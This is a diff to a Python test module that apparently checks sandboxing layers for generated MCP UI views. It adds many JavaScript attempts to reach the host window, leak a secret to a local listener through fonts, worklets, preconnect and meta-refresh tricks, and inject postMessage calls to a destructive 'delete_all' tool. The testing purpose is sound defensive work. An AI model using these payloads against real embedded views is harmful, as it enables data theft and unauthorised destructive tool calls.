@@ -6,8 +6,11 @@ window that the script could get. ``URL`` and ``PORT`` are those of a listener o
 
 import contextlib
 import json
+import re
 import socket
 import threading
+from base64 import b64encode
+from hashlib import sha256
 from typing import Final
 
 from genui_core.application.built_kit import BuiltViewKit
@@ -94,6 +97,7 @@ _STATEMENTS: Final = {
     "stack": "Error.prepareStackTrace = (_, s) => { for (const c of s) give(c.getThis?.()); return '' }; void new Error('x').stack",
     "handler of the window": "onresize = function () { give(this) }; dispatchEvent(new Event('resize'))",
     "handler of the body": "document.body.onresize = function () { give(this) }; document.body.onblur = function () { give(this) }; dispatchEvent(new Event('resize')); dispatchEvent(new Event('blur'))",
+    "handler of a disguised body": "Object.defineProperty(HTMLBodyElement, Symbol.hasInstance, { configurable: true, value: () => false }); try { document.body.onresize = function () { give(this) }; dispatchEvent(new Event('resize')) } finally { delete HTMLBodyElement[Symbol.hasInstance] }",
     "setter of a handler": "Object.getOwnPropertyDescriptor(HTMLElement.prototype, 'onblur').set.call(document.body, function () { give(this) }); dispatchEvent(new Event('blur'))",
     "missing name": "Object.defineProperty(Object.prototype, 'missingName', { configurable: true, get() { give(this); return 1 } }); void missingName; delete Object.prototype.missingName",
     "missing name, other prototype": "Object.defineProperty(EventTarget.prototype, 'missingName2', { get() { give(this); return 1 } }); void missingName2",
@@ -118,6 +122,9 @@ _STATEMENTS: Final = {
     "frame of a range": "const f = document.createRange().createContextualFragment('<iframe></iframe>').firstChild; document.body.append(f); give(f.contentWindow.parent)",
     "frame beside": "document.body.insertAdjacentHTML('beforeend', '<iframe id=f9></iframe>'); give(document.querySelector('#f9').contentWindow.parent)",
     "frame unsafe": "const p = document.createElement('p'); document.body.append(p); p.setHTMLUnsafe('<iframe></iframe>'); give(p.firstChild.contentWindow.parent)",
+    "frame of safe markup": "const p = document.createElement('p'); document.body.append(p); p.setHTML('<iframe></iframe>', { sanitizer: {} }); give(p.firstChild.contentWindow.parent)",
+    "frame of a safe document": "const f = Document.parseHTML('<object></object><iframe></iframe>', { sanitizer: {} }).querySelector('iframe'); document.body.append(f); give(f.contentWindow.parent)",
+    "frame of an unsafe document": "const f = Document.parseHTMLUnsafe('<iframe></iframe>').querySelector('iframe'); document.body.append(f); give(f.contentWindow.parent)",
     "frame of a command": "const p = document.createElement('p'); p.contentEditable = 'true'; document.body.append(p); p.focus(); getSelection().selectAllChildren(p); document.execCommand('insertHTML', false, '<iframe></iframe>'); give(p.querySelector('iframe').contentWindow.parent)",
     "frame of mutated markup": "const p = document.createElement('p'); document.body.append(p); p.innerHTML = '<svg></p><style><a id=\"</style><iframe id=fm></iframe>\">'; const q = document.createElement('div'); document.body.append(q); q.innerHTML = p.innerHTML; give(document.querySelector('#fm').contentWindow.parent)",
     "object": "const f = document.createElement('object'); f.data = 'about:blank'; f.type = 'text/html'; document.body.append(f); setTimeout(() => give(f.contentWindow.parent), 50)",
@@ -148,6 +155,8 @@ CHANNELS: Final = {
     "font": "await new FontFace('x', \"url('URL')\").load()",
     "preconnect": "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'URL'; document.head.append(l)",
     "preconnect of markup": "const p = document.createElement('p'); document.body.append(p); p.innerHTML = '<link rel=preconnect href=\"URL\">'",
+    "preconnect of safe markup": "const p = document.createElement('p'); document.body.append(p); p.setHTML('<link rel=preconnect href=\"URL\">', { sanitizer: {} })",
+    "preconnect of a safe document": "document.body.append(Document.parseHTML('<link rel=preconnect href=\"URL\">', { sanitizer: {} }).querySelector('link'))",
     "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'URL'; document.head.append(l)",
     "script": "const s = document.createElement('script'); s.src = 'URL'; document.head.append(s)",
     "module": "await import('URL')",
@@ -157,6 +166,11 @@ CHANNELS: Final = {
     "object": "const f = document.createElement('object'); f.data = 'URL'; document.body.append(f)",
     "embed": "const f = document.createElement('embed'); f.src = 'URL'; document.body.append(f)",
     "video": "const v = document.createElement('video'); v.src = 'URL'; document.body.append(v); v.load()",
+    "poster": "const v = document.createElement('video'); v.poster = 'URL'; document.body.append(v)",
+    "button of a picture": "const i = document.createElement('input'); i.type = 'image'; i.src = 'URL'; document.body.append(i)",
+    "worklet": "await CSS.paintWorklet.addModule('URL')",
+    "worklet of sounds": "await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('URL')",
+    "track": "const v = document.createElement('video'); const t = document.createElement('track'); t.src = 'URL'; t.default = true; v.append(t); document.body.append(v); v.textTracks[0].mode = 'showing'",
     "picture of a drawing": 'ui.root.innerHTML += \'<svg><image href="URL"/><use href="URL#a"/></svg>\'',
 }
 PICTURES: Final = {
@@ -207,20 +221,64 @@ LINKS: Final = {
     "link that is kept as a download": "const was = URL.createObjectURL; window.URL.createObjectURL = () => 'URL'; try { ui.download?.('a', 'b') } finally { window.URL.createObjectURL = was }",
     "form": "const f = document.createElement('form'); f.action = 'URL'; document.body.append(f); HTMLFormElement.prototype.submit.call(f)",
     "button of a form": "const f = document.createElement('form'); f.action = 'URL'; const b = document.createElement('button'); f.append(b); document.body.append(f); b.click()",
+    "link in a declared root of safe markup": "const h = document.createElement('div'); document.body.append(h); h.setHTML('<p><template shadowrootmode=closed><a href=\"URL\"><slot></slot></a></template><b></b></p>', { sanitizer: {} }); h.querySelector('b').click()",
+    "form in a root": "const h = document.createElement('div'); document.body.append(h); const s = h.attachShadow({ mode: 'open' }); const f = document.createElement('form'); f.action = 'URL'; s.append(f); f.requestSubmit()",
+    "refresh of a copy": "const m = document.querySelector('meta').cloneNode(); m.removeAttribute('name'); m.removeAttribute('charset'); m.httpEquiv = 'refresh'; m.content = '0;url=URL'; document.head.append(m)",
+    "refresh of an imported copy": "const m = document.importNode(document.querySelector('meta')); m.setAttribute('Http-Equiv', 'refresh'); m.content = '0;url=URL'; document.head.append(m)",
+    "refresh in place": "const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; m.httpEquiv = 'refresh'",
+    "refresh of a policy": "const m = document.querySelector('meta[http-equiv]'); m.attributes[0].value = 'refresh'; m.content = '0;url=URL'; document.head.append(m)",
+    "refresh of a node's value": "const m = document.querySelector('meta[http-equiv]'); m.attributes[0].nodeValue = 'refresh'; m.content = '0;url=URL'; document.head.append(m)",
+    "refresh of a node's text": "const m = document.querySelector('meta[http-equiv]'); m.attributes[0].textContent = 'refresh'; m.content = '0;url=URL'; document.head.append(m)",
+    "refresh of a node": "const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; const a = document.createAttribute('http-equiv'); a.value = 'refresh'; m.setAttributeNode(a)",
+    "refresh of a named item": "const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; const a = document.createAttributeNS(null, 'http-equiv'); a.value = 'refresh'; m.attributes.setNamedItemNS(a)",
+    "refresh of a moved node": "const p = document.createElement('p'); p.innerHTML = '<b http-equiv=refresh></b>'; const a = p.firstChild.removeAttributeNode(p.firstChild.attributes[0]); const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; m.attributes.setNamedItem(a)",
+    "refresh of a namespace": "const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; m.setAttributeNS(null, 'http-equiv', 'refresh')",
+    "refresh of a late name": "let n = 0; const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; m.setAttribute({ toString: () => n++ ? 'http-equiv' : 'title' }, 'refresh')",
+    "refresh of markup": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=URL\">'",
+    "refresh of safe markup": "const p = document.createElement('p'); document.body.append(p); p.setHTML('<meta http-equiv=refresh content=\"0;url=URL\">', { sanitizer: {} })",
+    "refresh of a safe document": "document.head.append(Document.parseHTML('<meta http-equiv=refresh content=\"0;url=URL\">', { sanitizer: {} }).querySelector('meta'))",
+    "refresh of a new element": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=URL'; document.head.append(m)",
     "location": "w.location.assign('URL'); w.location.href = 'URL'; location = 'URL'",
     "navigation": "w.navigation.navigate('URL')",
 }
 
-_CALL = "{ jsonrpc: '2.0', id: 991, method: 'tools/call', params: { name: 'delete_all', arguments: {} } }"
+_CALL = "{ jsonrpc: '2.0', id: 991, method: 'tools/call', params: { name: 'delete_all', arguments: { way: 'WAY' } } }"
 CALLS: Final = {
     "parent": f"w.parent.postMessage({_CALL}, '*')",
     "frames of the top": f"for (let i = 0; i < 3; i++) w.top[i]?.postMessage({_CALL}, '*')",
     "source of a message": f"addEventListener('message', (e) => e.source.postMessage({_CALL}, '*')); w.addEventListener('message', (e) => e.source.postMessage({_CALL}, '*'))",
     "handler of messages": f"onmessage = (e) => e.source.postMessage({_CALL}, '*')",
     "transport of the kit": f"new w.McpGenUi.PostMessageTransport().send({_CALL})",
-    "App of the kit": "const a = new w.McpGenUi.App({ name: 'a', version: '1' }); await a.connect(); await a.callServerTool({ name: 'delete_all', arguments: {} })",
-    "kit": "await ui.call('delete_all', {})",
+    "App of the kit": "const a = new w.McpGenUi.App({ name: 'a', version: '1' }); await a.connect(); await a.callServerTool({ name: 'delete_all', arguments: { way: 'WAY' } })",
+    "kit": "await ui.call('delete_all', { way: 'WAY' })",
     "parent of a frame": f"const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.parent.parent.postMessage({_CALL}, '*')",
+}
+
+OPEN: Final = {
+    "address of the document": "document.location = 'URL'",
+    "address of a node's document": "document.body.ownerDocument.location.assign('URL')",
+    "address of the root of a node": "document.body.getRootNode().location.replace('URL')",
+}
+"""What no layer stops."""
+LAYERS: Final = ("none", "policy", "guard", "names", "all")
+"""Each with those before it: the policy, the guard without the names, the names, and the gate for calls."""
+
+
+def _named(attempts: dict[str, str], *begins: str, but: bool = False) -> dict[str, str]:
+    return {name: body for name, body in attempts.items() if name.startswith(begins) != but}
+
+
+_REALMS: Final = ("frame", "object", "popup", "picture in picture")
+_BY_KIT: Final = ("transport", "App", "kit")
+GROUPS: Final = {
+    "the window": _named(SPELLINGS, *_REALMS, but=True),
+    "a fresh realm": _named(SPELLINGS, *_REALMS),
+    "network: requests of all kinds": _named(CHANNELS, "peer", but=True),
+    "network: WebRTC to a TURN server": _named(CHANNELS, "peer"),
+    "navigation: links, forms, refreshes": LINKS,
+    "navigation: the document's address": OPEN,
+    "call of a destructive tool: other windows": _named(CALLS, *_BY_KIT, but=True),
+    "call of a destructive tool: the runtime": _named(CALLS, *_BY_KIT),
 }
 
 TOOL: Final = {"name": "tool", "inputSchema": {"type": "object"}}
@@ -242,6 +300,7 @@ BATCH = """<template><p>Here</p></template>
   };
   run();
 }</script>"""
+_ADDRESS = re.compile(r"(?<![\w.])URL(?=\\?['\"#])")
 DOCUMENT = """<!DOCTYPE html><html lang="en"><head><title>a</title></head><body><div id="root"></div><script type="module">
 import {{ App }} from "@modelcontextprotocol/ext-apps";
 import {{ ui as kit }} from "@mcp-gen-ui/kit";
@@ -253,27 +312,48 @@ await app.connect();
 
 
 def source_of(attempts, mode, port=0):
+    """The view that makes all attempts; ``port`` is that of a listener, or a port for each attempt."""
+    ports = port if isinstance(port, dict) else dict.fromkeys(attempts, port)
     bodies = ",\n".join(
-        f"{json.dumps(name)}: async (give) => {{ {body} }}" for name, body in attempts.items()
+        f"{json.dumps(name)}: async (give) => {{ {_filled(name, body, ports[name])} }}"
+        for name, body in attempts.items()
     )
-    bodies = bodies.replace("'URL'", f"'http://127.0.0.1:{port}/?secret'").replace(
-        "URL'", f"http://127.0.0.1:{port}/?secret'"
-    )
-    bodies = bodies.replace('"URL"', f'"http://127.0.0.1:{port}/?secret"').replace("PORT", str(port))
     fragment = BATCH % bodies
     if mode == "fragment":
         return fragment
     return DOCUMENT.format(script=fragment.partition("<script>")[2].partition("</script>")[0])
 
 
+def _filled(name, body, port):
+    body = _ADDRESS.sub(f"http://127.0.0.1:{port}/?secret", body).replace("'WAY'", json.dumps(name))
+    return body.replace("PORT", str(port))
+
+
 def page_of(attempts, mode, layers, port=0):
-    """The page of all attempts: under ``none`` and ``policy`` with fewer layers than views are served with."""
-    guarded = layers == "all"
-    data = page_data(Tool(TOOL), Limits(), "system", guarded=guarded)
+    """The page of all attempts, with fewer layers than views are served with where ``layers`` is not ``all``."""
+    related = () if layers == "all" else ("delete_all",)
+    guarded = layers not in ("none", "policy")
+    data = page_data(Tool(TOOL), Limits(), "system", related=related, guarded=guarded)
     source = source_of(attempts, mode, port)
-    return view_page(
-        Tool(TOOL), data, BuiltViewKit(), source, mode, policy=PagePolicy(is_on=layers != "none")
+    policy = PagePolicy(is_on=layers != "none")
+    page = view_page(Tool(TOOL), data, BuiltViewKit(), source, mode, policy=policy)
+    return _without_names(page) if layers == "guard" else page
+
+
+def _without_names(page):
+    """The page of a fragment whose script sees the names that lead to the window."""
+    script = re.search(r"<script>(McpGenUi\.fragment.*?)</script>", page, re.DOTALL)[1]
+    bare = re.sub(
+        r"^McpGenUi\.fragment\(\[.*?\], function \(.*?\) {", "McpGenUi.fragment([], function () {", script
     )
+    assert bare != script
+    before, after = (_hash_of(each) for each in (script, bare))
+    assert before in page
+    return page.replace(script, bare).replace(before, after)
+
+
+def _hash_of(script):
+    return b64encode(sha256(script.encode()).digest()).decode()
 
 
 @contextlib.contextmanager
